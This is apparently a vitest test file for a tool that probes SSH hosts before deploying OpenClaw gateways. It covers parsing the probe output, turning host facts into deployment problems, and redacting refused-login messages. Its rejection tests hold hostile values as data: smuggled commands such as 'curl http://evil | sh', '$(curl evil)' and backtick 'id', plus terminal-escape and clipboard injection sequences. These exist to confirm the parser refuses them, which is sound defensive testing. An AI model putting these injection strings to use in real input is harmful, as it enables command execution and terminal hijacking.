/** What a host over SSH says of itself, and what follows from it. */
import { spawnSync } from "node:child_process";
import { chmodSync, chownSync, existsSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { hostScript } from "../../components/targets/bootstrap";
import { noShell, problemOf } from "../../components/targets/ssh/refusals";
import { parseProbe, probeScript, type Probe } from "../../components/targets/ssh/probe";
import { hostProblemsOf } from "../../components/targets/ssh/hostProblems";
import { writeJson } from "../../host/files";
import { closedOnWayTo } from "../../inspect/trusted";
import type { HostLayout } from "../../model/hostLayout";
import { GOOD_HOST, resolved } from "./gateways";

const SAID = `Welcome!
end
pulumi-openclaw look
system Linux
machine x86_64
user claw
home /home/claw
loader /lib64/ld-linux-x86-64.so.2
libc glibc 2.36
systemd yes
linger yes
has docker
has openssl
address 127.0.0.1
address 192.168.1.5
groups claw docker
account openclaw:x:998:998:pulumi-openclaw:/var/lib/openclaw:/usr/sbin/nologin
bin_dir closed /usr/local/bin
root writable /
disk overlay 41019616 20210328 18992960 52% /
memory MemTotal:        2014368 kB
ephemeral 32768	60999
tcp    0: 0100007F:4965 00000000:0000 0A 00000000:00000000 00:00000000 00000000  1000        0 1 2 0000 100 0 0 10 0
tcp    1: 00000000:0016 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 1 2 0000 100 0 0 10 0
tcp    0: 00000000000000000000000000000000:0016 00000000000000000000000000000000:0000 0A 00000000:00000000 00:00000000
process LISTEN 0 511 127.0.0.1:18789 0.0.0.0:* users:(("node",pid=4711,fd=21))
unit rescue /etc/systemd/system/openclaw-gateway-rescue.service
absent /etc/ssl/claw.pem
missing rescue
state main
program installed
answer {"found":[[]]}

end
`;

describe("a host's answer", () => {
  it("a host's answer is read from its first line to its last", () => {
    expect(parseProbe(SAID, 1)).toEqual<Probe>({
      ...GOOD_HOST,
      account: "openclaw:x:998:998:pulumi-openclaw:/var/lib/openclaw:/usr/sbin/nologin",
      programs: ["docker", "openssl"],
      addresses: ["127.0.0.1", "192.168.1.5"],
      absent: ["/etc/ssl/claw.pem"],
      binDir: { state: "closed", parent: "/usr/local/bin" },
      root: { state: "writable", parent: "/" },
      freeBytes: 18992960 * 1024,
      memoryBytes: 2014368 * 1024,
      listeners: [{ port: 22 }, { port: 18789, command: "node", pid: 4711 }],
      units: [{ id: "rescue", path: "/etc/systemd/system/openclaw-gateway-rescue.service" }],
      missing: ["rescue"],
      unownedStates: ["main"],
      installed: true,
      found: [[]],
    });
  });

  it("a host's answer does not count where the script did not finish", () => {
    expect(parseProbe("This account is currently not available.\n", 1)).toBeUndefined();
    expect(parseProbe(SAID.slice(0, -5), 1)).toBeUndefined();
  });

  it.each([[""], ['{"obstacles":[[{"property":"profile","reason":"x","advice":"curl x | sh"}]]}']])(
    "the probe falls back where an older host program answers: %s",
    (answer) => {
      const facts = parseProbe(SAID.replace('{"found":[[]]}', answer), 1);
      expect(facts).toMatchObject({ installed: true });
      expect(facts).not.toHaveProperty("found");
    },
  );

  const CLIPBOARD = "\\u001b]52;c;Y3VybA==\\u0007";
  it.each([
    "null",
    "5",
    "[[]]",
    "{}",
    "no JSON",
    '{"found":null}',
    '{"found":[]}',
    '{"found":[[],[]]}',
    '{"found":[null]}',
    '{"found":[{}]}',
    '{"found":[[{"is":"something"}]]}',
    '{"found":[[{"is":"unsafe","path":"/srv; curl http://evil | sh"}]]}',
    '{"found":[[{"is":"unsafe","path":"srv"}]]}',
    `{"found":[[{"is":"unit","path":"/etc/${CLIPBOARD}"}]]}`,
    `{"found":[[{"is":"gateway","owner":{"stack":"${CLIPBOARD}","gateway":"g"}}]]}`,
    '{"found":[[{"is":"ports","owner":{"stack":"s","gateway":"g"},"basePort":"18789"}]]}',
    `{"found":[[{"is":"gatewaysPort","owner":{"stack":"${"s".repeat(513)}","gateway":"g"},"port":1}]]}`,
    '{"found":[[{"is":"port","listener":{"port":1,"pid":1,"command":"a\\nb"},"ephemeral":{"first":1,"last":2}}]]}',
  ])("an answer is rejected where the host program says: %s", (answer) => {
    expect(parseProbe(SAID.replace('{"found":[[]]}', answer), 1)).toBe("strange");
  });

  it.each([
    ["user claw", "user $(curl evil)"],
    ["home /home/claw", "home /home/`id`"],
    ["home /home/claw", "home relative"],
    ["root writable /", "root closed /srv;id"],
    ["libc glibc 2.36", "libc \u001b[2J"],
    ["missing rescue", "missing a b"],
    ["unit rescue /etc/systemd/system/openclaw-gateway-rescue.service", "unit rescue \u001b]0;title\u0007"],
    ["unit rescue /etc/systemd/system/openclaw-gateway-rescue.service", "unit rescue"],
    ['(("node",', '(("\u009b31mnode",'],
    ["account openclaw:", "account \u202eopenclaw:"],
  ])("an answer is rejected where it says, for %j: %j", (truth, lie) => {
    expect(SAID).toContain(truth);
    expect(parseProbe(SAID.replace(truth, lie), 1)).toBe("strange");
  });

  it("an answer may hold whatever a machine may have", () => {
    const path = "/srv/My gateways/é+x@1.service";
    const found = [
      [
        { is: "unit", path },
        { is: "port", listener: { port: 18789 }, ephemeral: { first: 1, last: 2 } },
      ],
    ];
    expect(parseProbe(SAID.replace("[[]]", JSON.stringify(found)), 1)).toMatchObject({ found });
  });
});

const main = { name: "claw-main", gateway: resolved("claw.main", { basePort: 18789 }) };
const box = (layout: Partial<HostLayout> = {}, sudo = false) => ({
  name: "box",
  sudo,
  layout: { root: "/home/claw", binDir: "/home/claw/bin", account: null, ...layout },
});
const found = (facts: Partial<Probe>, host = box(), gateways = [main]) =>
  hostProblemsOf(host, { ...GOOD_HOST, ...facts }, gateways);

describe("facts become problems", () => {
  it("a suitable host without releases has no problems", () => {
    expect(found({})).toEqual({ problems: [], obstacles: [[]], warnings: [], lost: [], changes: [], drifts: [] });
  });

  it.each<[string, Partial<Probe>, ReturnType<typeof box>, RegExp]>([
    ["macOS", { system: "Darwin", machine: "arm64" }, box(), /box\.host runs Darwin on arm64/],
    ["a 32-bit userland", { machine: "aarch64" }, box(), /box\.host has no glibc for aarch64/],
    ["an old glibc", { libc: "glibc 2.27" }, box(), /box\.host has glibc 2\.27/],
    ["no lingering", { linger: false }, box(), /box\.supervisor .*lingering is off/],
    ["no sudo", { linger: false }, box({ account: "openclaw" }, true), /box\.sudo claw cannot become root/],
    [
      "a foreign account",
      { account: "openclaw:x:1:1::/:/" },
      box({ account: "openclaw" }),
      /box\.account .*not created/,
    ],
    [
      "no systemd",
      { systemd: false },
      box({ supervisor: "systemd" }),
      /box\.supervisor is systemd, which is not running/,
    ],
    [
      "a directory that the account cannot enter",
      { closed: ["/srv/claw"] },
      box({ account: "openclaw" }),
      /box\.root the account openclaw, which gateways run as, cannot enter \/srv\/claw/,
    ],
    [
      "another account than before",
      { former: { account: "claw" } },
      box({ account: "openclaw" }),
      /box\.account the gateways below .* run as claw, not as openclaw/,
    ],
    [
      "another supervisor than before",
      { former: { account: null, supervisor: "systemd" } },
      box({ supervisor: "process" }),
      /box\.supervisor .* run as systemd, not as process/,
    ],
    ["a full disk", { freeBytes: 1.4e9 }, box(), /box\.root .* has 1\.4 GB free.* for main needs about 1\.5 GB/],
  ])("a host has a problem with %s", (_, facts, host, expected) => {
    const { problems } = found(facts, host);
    expect(problems.map(({ path, reason }) => `${path} ${reason}`)).toEqual([expect.stringMatching(expected)]);
  });

  it.each<[string, Partial<Probe>, ReturnType<typeof box>]>([
    ["linger without systemd", { systemd: false, linger: false }, box()],
    ["linger for processes", { linger: false }, box({ supervisor: "process" })],
    ["linger for root", { linger: false }, box({ account: "openclaw" })],
    ["an account of ours", { account: "openclaw:x:9:9:pulumi-openclaw:/:/" }, box({ account: "openclaw" })],
    ["a full disk with all releases there", { freeBytes: 0, missing: [] }, box()],
    ["what gateways keep", { former: { account: null, supervisor: "process" }, linger: false }, box()],
    ["an unknown libc", { libc: "" }, box()],
  ])("a host has no problem with %s", (_, facts, host) => expect(found(facts, host).problems).toEqual([]));

  it("little memory of a host is a warning", () => {
    expect(found({ memoryBytes: 5e8 })).toMatchObject({ problems: [], warnings: [/0\.5 GB of memory/] });
  });

  it("sandboxes that cannot start are warnings", () => {
    const at = (config: object, env = {}) => ({
      name: "main",
      gateway: resolved("main", { basePort: 18789, config: { agents: config }, env }),
    });
    const all = at({ defaults: { sandbox: { mode: "all" } } });
    const said = (facts: Partial<Probe>, gateway = all, account: string | null = null): readonly string[] =>
      found(facts, box({ account }), [gateway]).warnings;
    const needs = "main: config.agents.defaults.sandbox.mode needs";
    const fails = "every run of the agent will fail";
    expect(said({})).toEqual([]);
    expect(said({ programs: [] })).toEqual([`${needs} docker, which is not installed on the host: ${fails}`]);
    expect(said({ groups: ["openclaw"] }, all, "openclaw")).toEqual([
      `${needs} docker, which openclaw may not use (usermod -aG docker openclaw, which makes whoever commands the agent root): ${fails}`,
    ]);
    expect(said({ groups: [], user: "root" })).toEqual([]);
    expect(said({ programs: [] }, at({ defaults: { sandbox: { mode: "all" } } }, { DOCKER_HOST: "x" }))).toEqual([]);
    expect(said({ programs: [] }, at({ defaults: { sandbox: { mode: "off" } } }))).toEqual([]);
    const podman = at({ defaults: { sandbox: { mode: "all", backend: "podman" } } });
    expect(said({ programs: ["podman"], groups: [] }, podman)).toEqual([]);
    expect(said({}, podman)).toEqual([`${needs} podman, which is not installed on the host: ${fails}`]);
  });

  it("missing files, programs and addresses for expose are problems", () => {
    const said = (expose: object, facts: Partial<Probe>): unknown =>
      found(facts, box(), [{ name: "main", gateway: resolved("main", { basePort: 18789, expose }) }]).obstacles[0];
    const files = { certFile: "/etc/ssl/claw.pem", keyFile: "/etc/ssl/claw.key" };
    expect(said({ tls: files }, {})).toEqual([]);
    expect(said({ tls: files }, { absent: ["/etc/ssl/claw.key"] })).toMatchObject([
      { property: "expose.tls.keyFile", reason: "there is no file /etc/ssl/claw.key on the host" },
    ]);
    expect(said({ tls: {} }, {})).toEqual([]);
    expect(said({ tls: {} }, { programs: [] })).toMatchObject([{ property: "expose.tls" }]);
    expect(said({ tailscale: "serve" }, { programs: ["openssl"] })).toMatchObject([{ property: "expose.tailscale" }]);
    const lan = { lan: { address: "192.168.1.5" }, tls: files };
    expect(said(lan, { addresses: ["127.0.0.1", "10.0.0.1"] })).toMatchObject([{ property: "expose.lan.address" }]);
    expect(said(lan, { addresses: ["192.168.1.5"] })).toEqual([]);
    expect(said(lan, {})).toEqual([]);
    expect(said({ lan: {} }, { addresses: ["10.0.0.1"] })).toEqual([]);
    expect(said({ lan: {} }, {})).toEqual([]);
    const advice = "add tls; or remove lan, and put a proxy in front on the gateway's machine: docs/reach.md";
    const open = {
      property: "expose.lan",
      reason: "203.0.113.7 is a public address: the token would cross the internet in plain text",
    };
    expect(said({ lan: {} }, { addresses: ["127.0.0.1", "203.0.113.7"] })).toEqual([{ ...open, advice }]);
    expect(said({ lan: { address: "0.0.0.0" } }, { addresses: ["10.0.0.1", "203.0.113.7"] })).toEqual([
      { ...open, advice: `set lan.address to one that is not public (10.0.0.1); or ${advice}` },
    ]);
    expect(said({ lan: {}, tls: {} }, { addresses: ["203.0.113.7"] })).toEqual([]);
    expect(said({}, { addresses: ["203.0.113.7"] })).toEqual([]);
  });

  it("ports in use are problems, unless the host program may run the gateway itself", () => {
    const listeners = [{ port: 22 }, { port: 18899, command: "python3", pid: 4711 }, { port: 18900 }];
    expect(found({ listeners }).obstacles).toMatchObject([
      [
        {
          property: "basePort",
          reason: expect.stringMatching(/^python3 \(pid 4711\) listens on port 18899/) as string,
        },
      ],
    ]);
    expect(found({ listeners, installed: true }).obstacles).toEqual([[]]);
  });

  it("what the host program finds replaces the script's findings", () => {
    const facts = { found: [[{ is: "wrapper" } as const]], listeners: [{ port: 18789 }] };
    expect(found(facts).obstacles).toMatchObject([
      [{ property: "profile", reason: expect.stringMatching(/is not this gateway's command$/) as string }],
    ]);
  });
});

describe("the script", () => {
  let root: string;
  beforeEach(() => void (root = mkdtempSync(join(tmpdir(), "pulumi-openclaw-look-"))));
  afterEach(() => rmSync(root, { recursive: true }));

  function look(layout: Partial<HostLayout>): Probe {
    const { layout: whole } = box({ root, binDir: join(root, "bin"), ...layout });
    const stateDir = join(root, ".openclaw");
    const gateways = [{ name: "m", gateway: { ...main.gateway, stateDir } }];
    const script = probeScript(hostScript("look.sh"), whole, false, gateways);
    const { stdout, stderr } = spawnSync("sh", ["-s"], {
      input: script,
      encoding: "utf8",
      env: { ...process.env, HOME: root },
    });
    expect(stderr).toBe("");
    const facts = parseProbe(stdout, 1);
    if (typeof facts !== "object") throw new Error(`${facts}: ${stdout}`);
    return facts;
  }

  it("the script reports facts of this machine, and leaves nothing behind", () => {
    expect(look({ root: join(root, "a/b"), binDir: join(root, "it's") })).toMatchObject({
      system: "Linux",
      root: { state: "writable", parent: root },
      binDir: { state: "writable", parent: root },
      installed: false,
      missing: ["main"],
      units: [],
      unownedStates: [],
    });
    expect(existsSync(join(root, "a"))).toBe(false);
  });

  it("the script finds files in the way, units and an unowned state directory", () => {
    writeFileSync(join(root, "file"), "");
    const units = join(root, ".config/systemd/user");
    mkdirSync(units, { recursive: true });
    writeFileSync(join(units, "openclaw-gateway.service"), "[Service]\n");
    mkdirSync(join(root, ".openclaw"));
    writeFileSync(join(root, ".openclaw/openclaw.json"), "{}");
    expect(look({ binDir: join(root, "file/bin") })).toMatchObject({
      binDir: { state: "file", parent: join(root, "file") },
      units: [{ id: "main", path: join(units, "openclaw-gateway.service") }],
      unownedStates: ["main"],
    });
    writeFileSync(
      join(units, "openclaw-gateway.service"),
      `# pulumi-openclaw ${root}/.pulumi-openclaw/gateways/main\n[Unit]\n`,
    );
    expect(look({})).toMatchObject({ units: [] });
  });

  it("the script finds what existing gateways were set up with", () => {
    const manage = join(root, ".pulumi-openclaw");
    mkdirSync(manage);
    writeJson(join(manage, "host.json"), { root, binDir: "/x", account: "claw", supervisor: "process" });
    expect(look({})).not.toHaveProperty("former");
    mkdirSync(join(manage, "gateways/main"), { recursive: true });
    expect(look({})).toMatchObject({ former: { account: "claw", supervisor: "process" } });
  });

  it("the script finds directories that the gateways' account cannot enter", () => {
    chmodSync(root, 0o755);
    mkdirSync(join(root, "private/deep"), { recursive: true });
    chmodSync(join(root, "private"), 0o700);
    symlinkSync("private/deep", join(root, "link"));
    for (const path of ["private/deep/a/b", "link/a"]) {
      const layout = { root: join(root, path), account: "openclaw" };
      expect(look(layout).closed).toEqual([join(root, "private")]);
      expect(closedOnWayTo(layout.root)).toEqual([join(root, "private")]);
    }
    expect(look({ root: join(root, "private/deep") }).closed).toEqual([]);
    expect(look({ account: "openclaw" }).closed).toEqual([]);
  });

  it.runIf(process.getuid!() === 0)("a directory that the account enters by its group is not closed", () => {
    chmodSync(root, 0o755);
    mkdirSync(join(root, "shared"));
    chmodSync(join(root, "shared"), 0o750);
    const layout = { root: join(root, "shared/claw"), account: "daemon" };
    const daemon = { uid: 1, gid: 1 };
    expect(look(layout).closed).toEqual([join(root, "shared")]);
    expect(closedOnWayTo(layout.root, daemon)).toEqual([join(root, "shared")]);
    chownSync(join(root, "shared"), 0, daemon.gid);
    expect(look(layout).closed).toEqual([]);
    expect(closedOnWayTo(layout.root, daemon)).toEqual([]);
  });

  it("the script finds a deployed gateway by its owner mark alone", () => {
    const mark = join(root, ".openclaw/.pulumi-openclaw.json");
    mkdirSync(join(root, ".openclaw"));
    const say = (released: boolean): void =>
      writeJson(mark, { owner: { stack: "s", gateway: "g", id: "1" }, released });
    say(true);
    expect(look({})).toMatchObject({ lost: [] });
    say(false);
    expect(look({})).toMatchObject({ lost: ["main"] });
    mkdirSync(join(root, ".pulumi-openclaw/gateways/main"), { recursive: true });
    writeFileSync(join(root, ".pulumi-openclaw/gateways/main/owner.json"), "{}");
    expect(look({})).toMatchObject({ lost: [] });
    // The agent has put something in its place that never ends.
    rmSync(join(root, ".pulumi-openclaw"), { recursive: true });
    rmSync(mark);
    symlinkSync("/dev/zero", mark);
    expect(look({})).toMatchObject({ lost: [] });
  });

  it("the script asks an installed host program, also one that cannot look", () => {
    mkdirSync(join(root, ".pulumi-openclaw"));
    const program = join(root, ".pulumi-openclaw/host");
    writeFileSync(program, '#!/bin/sh\n[ "$1" = look ] && grep -q \'"basePort":18789\' && echo \'{"found":[[]]}\'\n', {
      mode: 0o755,
    });
    expect(look({})).toMatchObject({ installed: true, found: [[]] });
    writeFileSync(program, "#!/bin/sh\necho usage >&2; exit 1\n");
    expect(look({})).not.toHaveProperty("found");
  });
});

describe("a refused login", () => {
  const key = (last: number): string =>
    Buffer.concat([Buffer.from([0, 0, 0, 11]), Buffer.from("ssh-ed25519"), Buffer.from([0, 0, 0, 1, last])]).toString(
      "base64",
    );

  it("a refused login shows fingerprints, and never a key", () => {
    const { path, reason, advice } = problemOf({ at: "proxy", shownKey: key(1) }, "box", `ssh-ed25519 ${key(2)}`);
    expect(path).toBe("box.proxy.hostKey");
    expect(reason).toMatch(/^is ssh-ed25519 SHA256:[\w+/]{43}, but the host presents ssh-ed25519 SHA256:[\w+/]{43}: /);
    for (const shown of [1, 2].map(key)) expect(reason + advice).not.toContain(shown);
  });

  it("a refused login shows one printable line of what the host says", () => {
    const { reason } = noShell("box", "claw", { output: "", errors: `\n\u001b[31mno\u0007${"x".repeat(999)}\nmore` });
    expect(reason).toMatch(/says: \[31mnox{194}$/);
  });
});
